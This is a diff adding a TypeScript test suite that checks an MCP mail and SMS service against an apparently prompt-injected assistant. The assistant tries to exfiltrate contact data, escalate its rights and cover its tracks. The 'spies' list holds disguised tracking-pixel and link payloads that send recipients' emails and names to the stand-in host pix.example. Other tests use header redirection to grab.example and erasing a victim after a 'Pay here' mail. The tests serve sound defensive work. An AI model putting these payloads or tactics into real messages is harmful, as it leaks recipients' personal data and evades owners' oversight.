@@ -1,0 +1,230 @@
+/**
+ * A tricked assistant on real connections of MCP, with the permissions that the consent page gives at
+ * first and with others: it tries to take out what it sees, to mail people whom nobody chose, to raise its
+ * own rights and to hide what it did.
+ */
+import assert from 'node:assert/strict'
+import { after, before, test } from 'node:test'
+import { Client } from '@modelcontextprotocol/sdk/client/index.js'
+import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js'
+import { setBusiness } from 'crier-server/accounts/settings/settings.ts'
+import { sql } from 'crier-server/lib/db/db.ts'
+import { everyOperation, type OwnTestbed, openTestbed } from '../operations/support/testbed.ts'
+import { campaignScene } from '../support/businesses/campaigns.ts'
+import { type GrantOptions, newGrant, tokenMint } from '../support/clients/grants.ts'
+
+type Body = Record<string, unknown>
+
+let testbed: OwnTestbed
+let scene: Awaited<ReturnType<typeof campaignScene>>
+let contact_id: string
+const clients: Client[] = []
+before(async () => {
+  testbed = await openTestbed({ idle: true })
+  scene = await campaignScene(testbed)
+  const { owner, businessId } = scene
+  await scene.subscribers(12)
+  const person = { email: 'ana@example.com', phone: '+33612345678', name: 'Ana' }
+  const consent = { email: { status: 'subscribed', source: 'shop' } }
+  ;({ contact_id } = await owner.get<{ contact_id: string }>('contact.upsert', {
+    ...person,
+    consent,
+    attributes: { plan: 'yearly' },
+  }))
+  await setBusiness(testbed.db, businessId, { key: 'deploy_limit', value: '0', now: new Date() })
+})
+after(async () => {
+  for (const client of clients) await client.close()
+  await testbed.close()
+})
+
+/** What the consent page gives unless its person chooses otherwise, and each kind of more. */
+const kinds: Record<string, Omit<GrantOptions, 'businesses'>> = {
+  'as it begins': { seesMasked: true, takesDataOut: false, transactionalPerDay: 100 },
+  'that sees whole addresses': { seesMasked: false, takesDataOut: false, transactionalPerDay: 100 },
+  'of an editor': {
+    role: 'editor',
+    seesMasked: true,
+    takesDataOut: false,
+    transactionalPerDay: 100,
+  },
+}
+
+/** Calls a tool as an assistant does, through the tool that calls others where it is not listed. */
+async function connect(kind: Omit<GrantOptions, 'businesses'>) {
+  const grant = await newGrant(testbed.db, { businesses: [scene.businessId], ...kind })
+  const headers = { authorization: `Bearer ${await tokenMint(testbed.service)(grant)}` }
+  const client = new Client({ name: 'tricked', version: '1' })
+  const url = new URL(testbed.service.endpoint)
+  await client.connect(new StreamableHTTPClientTransport(url, { requestInit: { headers } }))
+  clients.push(client)
+  return async (name: string, input: object = {}): Promise<Body> => {
+    const call = { tool: `svc_v1_${name.replace('.', '_')}`, arguments: input }
+    try {
+      const answer = await client.callTool({ name: 'svc_v1_meta_call', arguments: call })
+      return answer.structuredContent as Body
+    } catch (error) {
+      return { code: 'error', message: String(error) }
+    }
+  }
+}
+
+const messagesSent = async () => {
+  const { n } = await testbed.db.one<{ n: number }>(sql`
+    select count(*)::int as n from messages where business_id = ${scene.businessId}
+  `)
+  return n
+}
+
+/** Addresses that a mail program calls when it shows the mail, in as many disguises. */
+const spies = [
+  '<img src="https://pix.example/?m={{ contact.email }}" alt="">',
+  '<a href="https://pix.example/?m={{ contact.attributes.plan }}">Shop</a>',
+  '<a href="https://{{ contact.name | url_encode }}.pix.example">Shop</a>',
+  '<img src="https:\\\\pix.example/{{ contact.email }}" alt="">',
+  '<img src="https:&#x2f;&#47;pix.example/{{ contact.name }}" alt="">',
+  '<img src="https://pix.example/? {{ contact.name }}" alt="">',
+  '<img src="//pix.example/{{ contact.name }}" alt="">',
+  '<img src="{{ host }}{{ contact.name }}" alt="">',
+  '{% capture u %}https://pix.example/{{ contact.name }}{% endcapture %}<img src="{{ u }}" alt="">',
+  '<p style="background: url(https://pix.example/{{ contact.name }})">Hello</p>',
+  '<p>pix.example/{{ contact.name }}</p>',
+]
+
+test('a transactional mail or text tells no foreign host about its recipient, however it is written', async () => {
+  const { owner } = scene
+  const before = await messagesSent()
+  for (const [of, kind] of Object.entries(kinds)) {
+    const call = await connect(kind)
+    const refused = (body: Body, what: string) =>
+      assert.deepEqual(
+        [body['code'], body['permission']],
+        ['access_denied', 'takes_data_out'],
+        `${of}: ${what} ${JSON.stringify(body)}`,
+      )
+    const variables = { host: 'https://pix.example/?' }
+    for (const [n, html] of spies.entries()) {
+      const subject = `Your order ${n}`
+      refused(await call('email.send', { contact_id, subject, html, variables }), html)
+      const saved = await owner.get<{ template_id: string }>('template.save', {
+        name: subject,
+        subject,
+        html,
+      })
+      const { template_id } = saved
+      refused(await call('email.send', { contact_id, template_id, variables }), `template ${html}`)
+      const { results } = (await call('email.send_batch', {
+        messages: [{ contact_id, template_id, variables }],
+      })) as { results: { error?: Body }[] }
+      assert.equal(results[0]?.error?.['code'], 'access_denied', html)
+    }
+    const text = 'See https://pix.example/{{ contact.attributes.plan }}'
+    refused(await call('sms.send', { contact_id, text, variables: {} }), text)
+  }
+  assert.equal(await messagesSent(), before)
+})
+
+test('a receipt with a link of the call, a greeting and links of the own domain goes out', async () => {
+  const call = await connect(kinds['as it begins'] as object)
+  const { db } = testbed
+  await db.run(sql`update domains set status = 'verified' where business_id = ${scene.businessId}`)
+  for (const html of [
+    '<p>Dear {{ contact.name }}, <a href="https://post.example/{{ code }}">follow it</a></p>',
+    '<p>Dear {{ contact.name }}, see <a href="{{ link }}">your order</a></p>',
+  ]) {
+    const variables = { code: 'AB12', link: 'https://post.example/AB12' }
+    const body = await call('email.send', {
+      contact_id,
+      subject: 'Sent',
+      html,
+      variables,
+      allow_duplicate: true,
+    })
+    assert.equal(body['status'], 'queued', JSON.stringify(body))
+  }
+})
+
+test('header fields and the brand lead no answer and no picture elsewhere', async () => {
+  for (const [of, kind] of Object.entries(kinds)) {
+    const call = await connect(kind)
+    const mail = { contact_id, subject: 'Your order', text: 'On its way' }
+    for (const headers of [
+      { 'List-Unsubscribe': '<mailto:drop@grab.example>' },
+      { 'List-Unsubscribe': '<https://grab.example/u>' },
+      { 'List-Owner': '<mailto:drop@grab.example>' },
+    ]) {
+      const body = await call('email.send', { ...mail, headers })
+      assert.equal(body['permission'], 'takes_data_out', `${of}: ${JSON.stringify(body)}`)
+    }
+    for (const name of ['Disposition-Notification-To', 'Return-Receipt-To', 'Bcc', 'Sender']) {
+      const body = await call('email.send', { ...mail, headers: { [name]: 'drop@grab.example' } })
+      assert.equal(body['code'], 'invalid_request', `${of}: ${name}`)
+    }
+    const src = 'https://pix.example/{{ contact.name }}'
+    for (const change of [
+      { footer: [{ type: 'image', src, alt: 'A' }] },
+      { header: [{ type: 'text', html: `<p><a href="${src}">Shop</a></p>` }] },
+      { social: [{ network: 'x', url: src }] },
+    ]) {
+      const body = await call('brand.set', change)
+      assert.ok(
+        ['access_denied', 'role_required'].includes(String(body['code'])),
+        `${of}: ${JSON.stringify(body)}`,
+      )
+    }
+  }
+})
+
+test('it raises none of its rights, and reaches nothing that is the app’s alone', async () => {
+  const appOnly = everyOperation.filter((operation) => operation.appOnly)
+  assert.ok(appOnly.length > 40, `${appOnly.length} operations`)
+  for (const kind of Object.values(kinds)) {
+    const call = await connect(kind)
+    for (const setting of [
+      { deploy_limit: null },
+      { deploy_limit: 1_000 },
+      { reply_to: 'drop@grab.example' },
+      { retention: { history: 13 } },
+    ]) {
+      const { code } = await call('business.save', setting)
+      assert.ok(
+        ['access_denied', 'role_required'].includes(String(code)),
+        `${String(code)} ${JSON.stringify(setting)}`,
+      )
+    }
+    for (const { name } of appOnly) {
+      const { code, message } = await call(name)
+      assert.equal(code, 'invalid_request', name)
+      assert.match(String(message), /^Unknown tool/)
+    }
+  }
+  const { deploy_limit } = await scene.owner.get<Body>('business.get')
+  assert.equal(deploy_limit, 0)
+})
+
+test('what it did stays visible to owners when it removes the person to whom it did it', async () => {
+  const call = await connect({ ...kinds['as it begins'] })
+  const { contact_id: victim } = await call('contact.upsert', { email: 'victim@example.com' })
+  await call('email.send', { contact_id: victim, subject: 'Pay here', text: 'Pay' })
+  const erased = await call('contact.erase', { contact_id: victim })
+  assert.equal(erased['code'], undefined)
+  const person = await testbed.appCaller({ businesses: [scene.businessId] })
+  const activity = JSON.stringify(await person.get('meta.activity', { all: true }))
+  for (const operation of ['email.send', 'contact.erase'])
+    assert.ok(activity.includes(operation), activity)
+})
+
+test('the hundredth receipt of a day is its last, whichever way it sends', async () => {
+  const call = await connect({ ...kinds['as it begins'] })
+  const mailTo = (n: number) => ({ to: 'ana@example.com', subject: `No. ${n}`, text: `Order ${n}` })
+  const messages = Array.from({ length: 99 }, (_, n) => mailTo(n))
+  await call('email.send_batch', { messages })
+  assert.equal((await call('email.send', mailTo(99)))['status'], 'queued')
+  for (const [name, input] of [
+    ['email.send', mailTo(100)],
+    ['sms.send', { contact_id, text: 'Your order' }],
+  ] as const) {
+    const body = await call(name, input)
+    assert.deepEqual([body['code'], body['reason']], ['rate_limited', 'transactional_limit'])
+  }
+})
